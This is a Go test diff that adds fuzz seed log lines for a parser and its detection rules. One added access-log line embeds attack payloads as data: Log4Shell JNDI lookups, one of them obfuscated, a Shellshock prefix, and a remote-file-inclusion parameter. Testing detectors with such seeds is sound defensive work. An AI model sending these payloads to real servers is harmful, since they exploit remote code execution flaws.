@@ -36,6 +36,9 @@ var fuzzSeeds = []string{
 	"Mar  3 09:52:42 f proftpd[9]: f (s[203.0.113.92]) - USER a (Login failed): Incorrect password",
 	"Mar  3 09:52:42 f pure-ftpd: (?@203.0.113.93) [WARNING] Authentication failed for user [test]",
 	`2021/03/03 09:52:42 [error] 12#0: *7 client login failed while in http auth state, client: 203.0.113.102, server: 0.0.0.0:993, login: "info"`,
+	`crawl-66-249-66-1.googlebot.com - - [14/Jun/2004:09:00:00 +0000] "GET / HTTP/1.0" 200 1 "-" "Nikto"`,
+	`"192.168.4.164 - - [22/Dec/2016:15:19:05 +0300] "GET /DVWA/ HTTP/1.1" 200 2020 "-" "Mozilla/5.0""`,
+	`203.0.113.8 - - [06/May/2024:10:00:00 +0000] "GET /?p=http://x/y.txt? HTTP/1.1" 200 1 "${jndi:ldap://x/a}" "() { :; };" "${${::-j}ndi:x}"`,
 }
 
 // FuzzParseLine runs arbitrary lines through every parser and the rules:
